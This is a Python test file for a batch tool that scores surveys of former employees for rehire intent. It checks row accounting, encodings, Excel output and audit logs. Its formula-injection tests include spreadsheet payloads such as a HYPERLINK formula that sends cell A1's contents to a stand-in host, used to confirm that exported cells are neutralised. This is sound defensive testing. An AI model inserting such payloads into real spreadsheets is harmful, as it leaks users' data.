from __future__ import annotations

import csv
import json
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import rehire_model as rm
from rehire_model import batch
from rehire_model.exceptions import InputError, SchemaError
from rehire_model.scoring import LeaverBatch
from rehire_model.tables import write_table


@pytest.fixture(scope="module")
def model():
    return rm.load_model()


@pytest.fixture(scope="module")
def cohort():
    return rm.make_leaver_survey(120, random_state=8)


def _write_lines(path, frame, bad: dict[int, str]) -> None:
    """CSV of ``frame`` with some rows replaced by raw text."""
    text = frame.astype(object).where(frame.notna(), "").astype(str)
    lines = [",".join(frame.columns)]
    for i, row in enumerate(text.itertuples(index=False)):
        lines.append(bad.get(i, ",".join(row)))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def test_scores_equal_predict_and_keep_input_order(tmp_path, model, cohort):
    cohort.to_csv(tmp_path / "in.csv", index=False)
    summary = batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model,
                               chunk_rows=50, keep=["age"])
    out = pd.read_csv(tmp_path / "out.csv")
    expected = model.predict(cohort)
    assert summary.line() == "read 120 rows: scored 120, rejected 0"
    assert out["leaver_id"].tolist() == cohort["leaver_id"].tolist()
    assert list(out.columns[:2]) == ["leaver_id", "age"]
    np.testing.assert_allclose(out["p_rehire_intent"], expected["p_rehire_intent"], rtol=1e-12)
    assert pd.read_csv(tmp_path / "out.csv.rejects.csv").empty


def test_reasons_as_columns(tmp_path, model, cohort):
    cohort.head(10).to_csv(tmp_path / "in.csv", index=False)
    batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model, explain=2,
                     lang="ja", codes=True)
    out = pd.read_csv(tmp_path / "out.csv")
    reasons = model.explain(cohort.head(10), top_k=2, lang="ja")
    first = reasons[(reasons["target"] == "rehire_intent") & (reasons["rank"] == 1)]
    assert out["rehire_intent_reason_1"].tolist() == first["text"].tolist()
    assert {"alumni_engagement_reason_2", "rehire_intent_reason_2"} <= set(out.columns)
    batch.score_file(tmp_path / "in.csv", tmp_path / "ja.csv", model=model, explain=2,
                     lang="ja")
    ja = pd.read_csv(tmp_path / "ja.csv", encoding="utf-8-sig")
    assert list(ja.columns) == ["退職者ID", "アルムナイ意識の確率", "再入社意向の確率",
                                "セグメント", "未回答の項目", "アルムナイ意識の理由1",
                                "アルムナイ意識の理由2", "再入社意向の理由1", "再入社意向の理由2"]
    assert ja["再入社意向の理由1"].tolist() == first["text"].tolist()
    assert ja["再入社意向の確率"].str.fullmatch(r"\d{1,3}\.\d%").all()


# Rows of commas can leave a field blank in most rows: that warning is tested on its own.
@pytest.mark.filterwarnings("ignore::rehire_model.exceptions.DataWarning")
@settings(max_examples=15, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_rows_read_equal_rows_scored_plus_rejected(tmp_path_factory, model, cohort, data):
    kinds = {
        "category": lambda row: row.replace("manufacturing", "banking", 1),
        "malformed": lambda row: row + ",extra",
        "blank": lambda row: "",
        "commas": lambda row: "," * row.count(","),
        "number": lambda row: row.replace(",staff,", ",staff,forty,", 1).replace(",,", ",", 1),
    }
    bad = data.draw(st.dictionaries(st.integers(0, 119), st.sampled_from(sorted(kinds)),
                                    max_size=30))
    chunk_rows = data.draw(st.integers(7, 60))
    folder = tmp_path_factory.mktemp("run")
    text = cohort.astype(object).where(cohort.notna(), "").astype(str)
    rows = [",".join(r) for r in text.itertuples(index=False)]
    _write_lines(folder / "in.csv", cohort, {i: kinds[k](rows[i]) for i, k in bad.items()})
    summary = batch.score_file(folder / "in.csv", folder / "out.csv", model=model,
                               chunk_rows=chunk_rows)
    rejects = pd.read_csv(folder / "out.csv.rejects.csv")
    scored = pd.read_csv(folder / "out.csv")
    assert summary.read == 120 == summary.scored + summary.rejected
    assert summary.scored == len(scored)
    assert summary.rejected == rejects["line"].nunique()
    assert set(rejects["line"]) | {int(i) + 2 for i in range(120)} == {i + 2 for i in range(120)}
    good_ids = set(cohort["leaver_id"]) - set(rejects["leaver_id"].dropna())
    assert set(scored["leaver_id"]) <= good_ids


FEATURES = list(rm.schema.field_names(*rm.schema.FEATURE_ROLES))
CATEGORIES = {f.name for f in rm.FIELDS if f.kind == "category"}


# Any pattern of blanks may leave a column mostly blank: its warning is right, and tested
# in test_scoring.py; here only the rows count.
@pytest.mark.filterwarnings("ignore::rehire_model.exceptions.DataWarning")
@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_no_row_is_lost_to_any_pattern_of_blanks(tmp_path_factory, model, cohort, data):
    """Blanks never lose a row: scored + rejected = read, a record is rejected only when
    more than max_missing of its fields are unanswered, and each scored record names the
    fields it lacked."""
    blanks = data.draw(st.lists(st.sets(st.sampled_from(FEATURES), max_size=len(FEATURES)),
                                min_size=40, max_size=40))
    frame = cohort.head(40).astype(object)
    for i, names in enumerate(blanks):
        frame.loc[frame.index[i], sorted(names)] = None
    folder = tmp_path_factory.mktemp("blanks")
    frame.to_csv(folder / "in.csv", index=False)
    summary = batch.score_file(folder / "in.csv", folder / "out.csv", model=model,
                               chunk_rows=data.draw(st.integers(5, 40)))
    scored = pd.read_csv(folder / "out.csv", keep_default_na=False)
    rejects = pd.read_csv(folder / "out.csv.rejects.csv")
    assert summary.read == 40 == summary.scored + summary.rejected == len(scored) + len(rejects)
    assert rejects["problem"].str.contains("more than max_missing 0.5").all()
    records = rm.validate_records(frame, max_missing=1)
    arrays = {n: records[n].to_numpy(dtype=object, na_value=None) if n in CATEGORIES
              else records[n].to_numpy(dtype=float, na_value=np.nan) for n in FEATURES}
    _, skipped = rm.validation.skipped_answers(arrays, model.record_fields)
    counts = pd.Series(skipped.sum(axis=1), index=frame["leaver_id"])
    assert set(rejects["leaver_id"]) == set(counts.index[counts > 0.5 * len(FEATURES)])
    for leaver_id, listed in zip(scored["leaver_id"], scored["missing_fields"], strict=True):
        assert (len(listed.split(";")) if listed else 0) == counts[leaver_id]


def _interrupt_on_second_chunk(monkeypatch):
    calls = {"n": 0}
    original = LeaverBatch.predictions

    def fail_on_second_chunk(self):
        calls["n"] += 1
        if calls["n"] == 3:  # 1: empty layout, 2: first chunk, 3: second chunk
            raise KeyboardInterrupt
        return original(self)

    monkeypatch.setattr(LeaverBatch, "predictions", fail_on_second_chunk)
    return calls


def test_an_interrupted_run_leaves_no_output(tmp_path, model, cohort, monkeypatch):
    cohort.to_csv(tmp_path / "in.csv", index=False)
    (tmp_path / "out.csv").write_text("previous results\n", encoding="utf-8")
    calls = _interrupt_on_second_chunk(monkeypatch)
    with pytest.raises(KeyboardInterrupt):
        batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model, chunk_rows=50)
    assert calls["n"] == 3
    assert (tmp_path / "out.csv").read_text(encoding="utf-8") == "previous results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv"]


def test_missing_required_column_stops_before_writing(tmp_path, model, cohort):
    cohort.drop(columns="industry").to_csv(tmp_path / "in.csv", index=False)
    with pytest.raises(SchemaError, match="missing required column: industry"):
        batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model)
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize(("keep", "message"), [
    (["nickname"], "--keep names column\\(s\\) the input does not have: nickname"),
    (["segment"], "--keep cannot carry segment"),
])
def test_bad_keep_columns(tmp_path, model, cohort, keep, message):
    cohort.head(3).to_csv(tmp_path / "in.csv", index=False)
    with pytest.raises(InputError, match=message):
        batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model, keep=keep)


def test_parquet_in_and_out(tmp_path, model, cohort):
    cohort.to_parquet(tmp_path / "in.parquet", index=False)
    summary = batch.score_file(tmp_path / "in.parquet", tmp_path / "out.parquet", model=model,
                               chunk_rows=40, explain=1)
    out = pd.read_parquet(tmp_path / "out.parquet")
    assert summary.scored == len(out) == 120
    np.testing.assert_allclose(out["p_alumni_engagement"],
                               model.predict(cohort)["p_alumni_engagement"], rtol=1e-12)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
def test_output_encodings(tmp_path, model, cohort, encoding):
    cohort.head(5).to_csv(tmp_path / "in.csv", index=False)
    batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model, explain=1,
                     lang="ja", output_encoding=encoding, codes=True)
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")
    out = pd.read_csv(tmp_path / "out.csv", encoding=encoding)
    assert out["rehire_intent_reason_1"].str.contains("再入社意向").all()
    assert out["leaver_id"].tolist() == cohort["leaver_id"].head(5).tolist()


def test_audit_log_has_one_line_per_scored_person(tmp_path, model, cohort):
    import json

    data = cohort.head(30).copy()
    data.loc[3, "industry"] = "banking"
    data.to_csv(tmp_path / "in.csv", index=False)
    log = tmp_path / "audit.jsonl"
    batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model, audit_log=log)
    batch.score_file(tmp_path / "in.csv", tmp_path / "out2.csv", model=model, audit_log=log)
    lines = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
    assert len(lines) == 2 * 29  # appended, rejected rows not logged
    first = lines[0]
    assert set(first) == {"timestamp", "model", "model_sha256", "leaver_id", "input_sha256",
                          "p_alumni_engagement", "p_rehire_intent", "segment",
                          "missing_fields", "reasons"}
    assert first["model"] == "default" and len(first["model_sha256"]) == 64
    assert len(first["reasons"]["rehire_intent"]) == 3
    assert first["input_sha256"] == lines[29]["input_sha256"]  # same record, same hash
    assert len({line["input_sha256"] for line in lines}) == 29
    scores = pd.read_csv(tmp_path / "out.csv")
    assert [line["p_rehire_intent"] for line in lines[:29]] == pytest.approx(
        scores["p_rehire_intent"].tolist(), rel=1e-12)
    assert "tenure_years" not in log.read_text(encoding="utf-8")  # no record values


# --------------------------------------------------------------------------------------
# Excel in and out
# --------------------------------------------------------------------------------------

FORMULA_LIKE = ["=HYPERLINK(\"http://example.com\")", "+1", "-2x", "@x"]


def _excel_cohort(tmp_path, cohort):
    """30 leavers in an .xlsx: formula-like text, a bad value (row 6), an empty row 12."""
    frame = cohort.head(30).astype(object)
    frame.insert(1, "氏名", [FORMULA_LIKE[i % 4] for i in range(30)])
    frame.loc[0, "leaver_id"] = FORMULA_LIKE[0]
    frame.loc[4, "industry"] = "banking"
    blank = pd.DataFrame([[None] * frame.shape[1]], columns=frame.columns)
    frame = pd.concat([frame.iloc[:10], blank, frame.iloc[10:]], ignore_index=True)
    write_table(frame, tmp_path / "in.xlsx", sheet="退職者")
    return frame


def test_excel_in_and_out(tmp_path, model, cohort):
    import openpyxl

    frame = _excel_cohort(tmp_path, cohort)
    summary = batch.score_file(tmp_path / "in.xlsx", tmp_path / "out.xlsx", model=model,
                               chunk_rows=7, keep=["氏名"], explain=1, sheet="退職者",
                               output_encoding="cp932")  # no encoding for .xlsx: ignored
    assert summary.line() == ("sheet '退職者', headers in row 1: read 31 rows: scored 29, "
                              "rejected 2")
    assert summary.rejects == tmp_path / "out.xlsx"
    assert summary.rejects_place() == f"sheet 'rejects' of {tmp_path / 'out.xlsx'}"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.xlsx", "out.xlsx"]
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == ["scores", "rejects"]
    scores = pd.DataFrame(book["scores"].values)
    scores = scores.iloc[1:].set_axis(scores.iloc[0], axis=1).reset_index(drop=True)
    good = frame.drop(index=[4, 10])
    expected = model.predict(good.drop(columns="氏名"))
    assert scores["leaver_id"].tolist() == good["leaver_id"].tolist()
    assert scores["氏名"].tolist() == good["氏名"].tolist()
    for name in ("p_alumni_engagement", "p_rehire_intent"):
        np.testing.assert_allclose(scores[name].astype(float), expected[name], rtol=1e-12)
    assert scores["segment"].tolist() == expected["segment"].tolist()
    rejects = list(book["rejects"].values)
    assert rejects[0] == batch.REJECT_COLUMNS
    assert [(r[0], r[2], r[4]) for r in rejects[1:]] == [
        (6, "industry", rejects[1][4]), (12, None, "empty row")]
    assert "banking" in rejects[1][4]


def test_excel_text_cells_never_become_formulas(tmp_path, model, cohort):
    import openpyxl

    _excel_cohort(tmp_path, cohort)
    batch.score_file(tmp_path / "in.xlsx", tmp_path / "out.xlsx", model=model, keep=["氏名"],
                     sheet="退職者")
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx")["scores"]
    header = [cell.value for cell in ws[1]]
    assert all(cell.font.bold for cell in ws[1]) and ws.freeze_panes == "A2"
    first = {name: cell for name, cell in zip(header, ws[2], strict=True)}
    assert (first["leaver_id"].value, first["leaver_id"].data_type) == (FORMULA_LIKE[0], "s")
    kept = [row[1] for row in ws.iter_rows(min_row=2, max_row=5)]
    assert [(c.value, c.data_type) for c in kept] == [(v, "s") for v in FORMULA_LIKE]
    assert first["p_rehire_intent"].data_type == "n"
    assert isinstance(first["p_rehire_intent"].value, float)
    assert all(ws.column_dimensions[letter].width <= 60 for letter in "ABCDEF")
    rejects = openpyxl.load_workbook(tmp_path / "out.xlsx")["rejects"]
    assert rejects.freeze_panes == "A2"
    assert [c.data_type for c in rejects[2][:1]] == ["n"]  # the row number is a number


def test_excel_output_with_a_rejects_file_given(tmp_path, model, cohort):
    import openpyxl

    _excel_cohort(tmp_path, cohort)
    summary = batch.score_file(tmp_path / "in.xlsx", tmp_path / "out.xlsx", model=model,
                               rejects=tmp_path / "bad.csv", sheet="退職者")
    assert summary.rejects == tmp_path / "bad.csv" and summary.rejects_sheet is None
    assert openpyxl.load_workbook(tmp_path / "out.xlsx").sheetnames == ["scores"]
    assert pd.read_csv(tmp_path / "bad.csv")["line"].tolist() == [6, 12]
    with pytest.raises(InputError, match="Excel output is written as .xlsx"):
        batch.score_file(tmp_path / "in.xlsx", tmp_path / "out.xlsm", model=model)


def test_an_interrupted_excel_run_leaves_no_output(tmp_path, model, cohort, monkeypatch):
    import tempfile

    cohort.to_csv(tmp_path / "in.csv", index=False)
    (tmp_path / "out.xlsx").write_bytes(b"previous results")
    system_temp = tmp_path / "system-temp"  # where openpyxl keeps each sheet's rows
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))
    calls = _interrupt_on_second_chunk(monkeypatch)
    with pytest.raises(KeyboardInterrupt):
        batch.score_file(tmp_path / "in.csv", tmp_path / "out.xlsx", model=model,
                         chunk_rows=50)
    assert calls["n"] == 3
    assert (tmp_path / "out.xlsx").read_bytes() == b"previous results"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.xlsx",
                                                          "system-temp"]
    assert list(system_temp.iterdir()) == []


def test_coaching_streams_with_each_leavers_checklist(tmp_path, model, cohort):
    data = cohort.head(90).copy()
    data.loc[data.index[7], "industry"] = "banking"
    data.to_csv(tmp_path / "in.csv", index=False)
    summary = batch.score_file(tmp_path / "in.csv", tmp_path / "chunked.csv", model=model,
                               coach=3, lang="ja", chunk_rows=25, codes=True)
    assert (summary.read, summary.scored, summary.rejected) == (90, 89, 1)
    batch.score_file(tmp_path / "in.csv", tmp_path / "whole.csv", model=model, coach=3,
                     lang="ja", codes=True)
    chunked = pd.read_csv(tmp_path / "chunked.csv", dtype=str, keep_default_na=False)
    pd.testing.assert_frame_equal(
        chunked, pd.read_csv(tmp_path / "whole.csv", dtype=str, keep_default_na=False))
    for record, coaching in zip(data.drop(index=data.index[7]).to_dict("records"),
                                chunked["coaching"], strict=True):
        items = model.coach(record, lang="ja", top_k=3)["item"]
        assert coaching == " / ".join(items)


# --------------------------------------------------------------------------------------
# Spreadsheet exports in and out
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("sep", "encoding"), [
    (";", "utf-8"), ("\t", "utf-8"), ("\t", "utf-16"), (";", "utf-8-sig"), (";", "cp932"),
])
def test_each_excel_export_scores_as_the_comma_file(tmp_path, model, cohort, sep, encoding):
    cohort.to_csv(tmp_path / "comma.csv", index=False)
    cohort.to_csv(tmp_path / "export.txt", sep=sep, index=False, encoding=encoding)
    batch.score_file(tmp_path / "comma.csv", tmp_path / "comma_scores.csv", model=model,
                     explain=1, keep=["age"])
    summary = batch.score_file(tmp_path / "export.txt", tmp_path / "scores.csv", model=model,
                               explain=1, keep=["age"], chunk_rows=50)
    assert summary.line() == "read 120 rows: scored 120, rejected 0"
    pd.testing.assert_frame_equal(pd.read_csv(tmp_path / "scores.csv"),
                                  pd.read_csv(tmp_path / "comma_scores.csv"))
    checked, problems = batch.check_file(tmp_path / "export.txt", sep=sep)
    assert (checked.read, checked.scored, len(problems)) == (120, 120, 0)


def test_a_semicolon_file_read_as_commas_says_what_it_looks_like(tmp_path, model, cohort):
    cohort.to_csv(tmp_path / "in.csv", sep=";", index=False)
    with pytest.raises(InputError, match="in.csv' has no header that names a field: the "
                       "table has one column, whose name contains ';': the file looks "
                       "';'-separated; pass --sep ';'"):
        batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model, sep=",")
    with pytest.raises(InputError, match="looks ';'-separated; pass --sep ';'"):
        batch.check_file(tmp_path / "in.csv", sep=",")
    assert not (tmp_path / "out.csv").exists()


def test_a_wrong_encoding_is_named_when_no_header_matches(tmp_path, model, cohort):
    cohort.to_csv(tmp_path / "in.txt", sep="\t", index=False, encoding="utf-16-le")  # no BOM
    with pytest.raises(InputError, match="hold NUL bytes: the file is likely UTF-16 text; "
                       "pass --encoding utf-16"):
        batch.score_file(tmp_path / "in.txt", tmp_path / "out.csv", model=model)
    summary = batch.score_file(tmp_path / "in.txt", tmp_path / "out.csv", model=model,
                               encoding="utf-16-le")
    assert summary.scored == 120
    cohort.rename(columns=lambda c: f"{c}\u00e2\u20ac\u2122").to_csv(tmp_path / "odd.csv",
                                                                    index=False)
    with pytest.raises(InputError, match="characters of a likely wrong encoding; pass "
                       "--encoding"):
        batch.score_file(tmp_path / "odd.csv", tmp_path / "out.csv", model=model)
    cohort.rename(columns=str.upper).to_csv(tmp_path / "upper.csv", index=False)
    with pytest.raises(SchemaError, match="no column of the table is a field \\(the headers "
                       "are 'LEAVER_ID', 'COMPANY_SIZE', 'INDUSTRY', ...\\); .* --columns"):
        batch.score_file(tmp_path / "upper.csv", tmp_path / "out.csv", model=model)


PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
UNDO = re.compile(r"^'(?='*[=+\-@\t\r])")
FORMULA_TEXT = st.one_of(
    st.builds(str.__add__, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'=", "x\r="]),
              st.text(max_size=10)),
    st.text(max_size=10),
    st.sampled_from(["-1", "+2.5", "=1+1", '=HYPERLINK("http://x.test/?"&A1,"click")',
                     "@SUM(A1)", "-2+3", "+1-555"]),
)


def _csv_cells(path, encoding="utf-8"):
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.reader(f))


def _runs_as_formula(cell):
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.fullmatch(cell)


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_no_scores_or_rejects_cell_runs_as_a_formula(tmp_path_factory, model, cohort, data):
    import openpyxl

    frame = cohort.head(6).astype(object)
    ids = data.draw(st.lists(FORMULA_TEXT.filter(str.strip), min_size=6, max_size=6,
                             unique=True))
    notes = data.draw(st.lists(st.none() | FORMULA_TEXT, min_size=6, max_size=6))
    deltas = data.draw(st.lists(st.floats(-1e9, 1e9), min_size=6, max_size=6))
    bad = data.draw(st.builds(str.__add__, st.sampled_from(["=", "+", "-", "@", "'="]),
                              st.text(max_size=8)))
    frame["leaver_id"], frame["note"], frame["delta"] = ids, notes, deltas
    frame.loc[frame.index[2], "company_size"] = bad
    folder = tmp_path_factory.mktemp("formulas")
    frame.to_parquet(folder / "in.parquet", index=False)
    kept = [i for i in range(6) if i != 2]
    for name, encoding in (("out.csv", "utf-8"), ("out16.csv", "utf-16")):
        summary = batch.score_file(folder / "in.parquet", folder / name, model=model,
                                   keep=["note", "delta"], output_encoding=encoding)
        assert (summary.scored, summary.rejected) == (5, 1)
        scores = _csv_cells(folder / name, encoding)
        rejects = _csv_cells(folder / f"{name}.rejects.csv", encoding)
        cells = [cell for row in scores + rejects for cell in row]
        assert not [cell for cell in cells if _runs_as_formula(cell)]
        assert [UNDO.sub("", row[0]) for row in scores[1:]] == [ids[i] for i in kept]
        assert [UNDO.sub("", row[1]) for row in scores[1:]] == [notes[i] or "" for i in kept]
        assert [float(row[2]) for row in scores[1:]] == [deltas[i] for i in kept]
        assert [UNDO.sub("", cell) for cell in rejects[1][1:4]] == [ids[2], "company_size", bad]
    batch.score_file(folder / "in.parquet", folder / "out.xlsx", model=model,
                     keep=["note", "delta"])
    book = openpyxl.load_workbook(folder / "out.xlsx")
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    as_xml = [re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd",
                     ids[i].replace("\r\n", "\n").replace("\r", "\n")) for i in kept]
    assert [cell.value for cell in book["scores"]["A"][1:]] == as_xml
    assert [cell.value for cell in book["scores"]["C"][1:]] == pytest.approx(
        [deltas[i] for i in kept], rel=1e-15)  # openpyxl writes 16 significant digits


def test_raw_text_keeps_values_exact_and_the_audit_log_is_always_exact(tmp_path, model,
                                                                       cohort):
    frame = cohort.head(4).astype(object)
    frame["leaver_id"] = ['=HYPERLINK("http://x.test/?"&A1,"click")', "-2+3", "@SUM(A1)", "L4"]
    frame["note"] = ["+1-555", "-7", None, "=1+1"]
    frame.loc[frame.index[3], "company_size"] = "=1+1"
    frame.to_csv(tmp_path / "in.csv", index=False)
    log = tmp_path / "audit.jsonl"
    batch.score_file(tmp_path / "in.csv", tmp_path / "raw.csv", model=model, keep=["note"],
                     raw_text=True, audit_log=log)
    raw = pd.read_csv(tmp_path / "raw.csv", dtype=str, keep_default_na=False)
    assert raw["leaver_id"].tolist() == frame["leaver_id"].tolist()[:3]
    assert raw["note"].tolist() == ["+1-555", "-7", ""]
    rejects = pd.read_csv(tmp_path / "raw.csv.rejects.csv", dtype=str)
    assert rejects[["leaver_id", "value"]].values.tolist() == [["L4", "=1+1"]]
    batch.score_file(tmp_path / "in.csv", tmp_path / "safe.csv", model=model, keep=["note"])
    safe = pd.read_csv(tmp_path / "safe.csv", dtype=str, keep_default_na=False)
    assert safe["leaver_id"].tolist() == ['\'=HYPERLINK("http://x.test/?"&A1,"click")',
                                          "'-2+3", "'@SUM(A1)"]
    assert safe["note"].tolist() == ["'+1-555", "-7", ""]
    assert pd.read_csv(tmp_path / "safe.csv.rejects.csv", dtype=str)["value"].tolist() == [
        "'=1+1"]
    logged = [json.loads(line)["leaver_id"] for line in log.read_text("utf-8").splitlines()]
    assert logged == frame["leaver_id"].tolist()[:3]
    batch.score_file(tmp_path / "in.csv", tmp_path / "out.parquet", model=model, keep=["note"])
    exact = pd.read_parquet(tmp_path / "out.parquet")
    assert exact["leaver_id"].tolist() == frame["leaver_id"].tolist()[:3]


def test_blank_warnings_count_scored_and_rejected_rows_as_given(tmp_path, model, cohort):
    data = cohort.head(40).copy()
    data["industry"] = None
    data.loc[:24, "tenure_years"] = np.nan
    data["company_size"] = data["company_size"].astype(object)
    data.loc[3, "company_size"] = "huge"  # rejected, its blanks still count
    data.to_csv(tmp_path / "in.csv", index=False)
    with pytest.warns(rm.DataWarning) as caught:
        summary = batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model,
                                   progress=False)
    assert (summary.scored, summary.rejected) == (39, 1)
    counts = rm.scoring.BlankCounts()
    counts.add(data, model.record_fields)
    expected = [str(w) for w in counts.warnings()]
    assert [str(w.message) for w in caught] == expected
    assert expected == ["Industry is blank in all 40 rows: the scores use no Industry "
                        "information",
                        "Tenure at the former employer (years) is blank in 25 of 40 rows: "
                        "most scores use no Tenure at the former employer (years) information"]
